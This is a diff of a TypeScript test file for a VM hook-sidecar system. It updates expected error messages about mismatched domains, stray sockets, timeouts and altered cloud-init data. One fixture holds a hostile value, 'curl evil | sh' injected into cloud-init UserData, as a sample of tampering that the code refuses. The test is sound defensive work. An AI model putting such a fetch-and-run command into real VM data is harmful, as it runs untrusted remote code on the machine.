@@ -89,7 +89,9 @@ test.each<readonly [string, (xml: string) => string, RegExp]>([
 ] as const)("a sidecar that answers with %s is refused, with the first difference", async (_what, domain, difference) => {
   const { error } = await define({ ...third, domain });
   expect(error?.code).toBe("PLUGIN_FAILED");
-  expect(error?.message).toContain('the sidecar of binding "third" (container hook-sidecar-0) answered OnDefineDomain with another domain');
+  expect(error?.message).toContain(
+    'the sidecar of binding "third" (container hook-sidecar-0) answered OnDefineDomain with a domain that differs',
+  );
   expect(error?.message).toMatch(difference);
   expect([...(error?.message ?? "")].every((character) => character >= " ")).toBe(true);
 });
@@ -108,7 +110,7 @@ test("two sockets of one container are refused, and so is a directory of no side
   const other = await define(third, async (pod) =>
     serveThirdParty(pod.hooks, { ...third, directory: "hook-sidecar-7", socket: "x.sock" }, []),
   );
-  expect(other.error?.message).toContain('holds "hook-sidecar-7", which is the directory of no sidecar of this pod');
+  expect(other.error?.message).toContain('holds "hook-sidecar-7", which does not belong to a sidecar of this pod');
 });
 
 test("a link in the place of a hook socket, and one of another user, are not dialled", async () => {
@@ -135,7 +137,10 @@ test("a link in the place of a hook socket, and one of another user, are not dia
       ),
     );
   }
-  expect(outcomes).toEqual([expect.stringContaining("showed no hook socket"), expect.stringContaining("belongs to uid 0, not to 107")]);
+  expect(outcomes).toEqual([
+    expect.stringContaining("did not serve a hook socket"),
+    expect.stringContaining("belongs to uid 0, not to 107"),
+  ]);
   expect(calls).toEqual([]);
 });
 
@@ -160,13 +165,13 @@ test("a sidecar that shows no socket, or one on which nobody speaks, does not ho
   const expected = expectedSidecars({ third: { container: CONTAINER } }, nics);
   const collect = (): Promise<HookManager> => HookManager.collect({ hooks: pod.hooks, uid: 0 }, expected, QUICK);
   await expect(collect()).rejects.toThrow(
-    /0 of 1 sidecars were collected in 1500 ms: .*\(container hook-sidecar-0\) showed no hook socket/,
+    /0 of 1 sidecars were collected in 1500 ms: .*\(container hook-sidecar-0\) did not serve a hook socket/,
   );
   mkdirSync(join(pod.hooks, CONTAINER));
   const mute = createServer(() => undefined);
   await new Promise<void>((resolve) => mute.listen(join(pod.hooks, CONTAINER, "mute.sock"), resolve));
   try {
-    await expect(collect()).rejects.toThrow(/no answer came in/);
+    await expect(collect()).rejects.toThrow(/no answer came within/);
   } finally {
     mute.close();
   }
@@ -175,5 +180,7 @@ test("a sidecar that shows no socket, or one on which nobody speaks, does not ho
 test("cloud-init's data stays as its author wrote it", () => {
   const sent = { DataSource: "noCloud", UserData: "#!/bin/sh", NetworkData: "" };
   expect(unchangedCloudInit(sent, { ...sent })).toBe(sent);
-  expect(() => unchangedCloudInit(sent, { ...sent, UserData: "#!/bin/sh\ncurl evil | sh" })).toThrow(/PreCloudInitIso with other data/);
+  expect(() => unchangedCloudInit(sent, { ...sent, UserData: "#!/bin/sh\ncurl evil | sh" })).toThrow(
+    /changed the VM's cloud-init data in its answer to PreCloudInitIso/,
+  );
 });
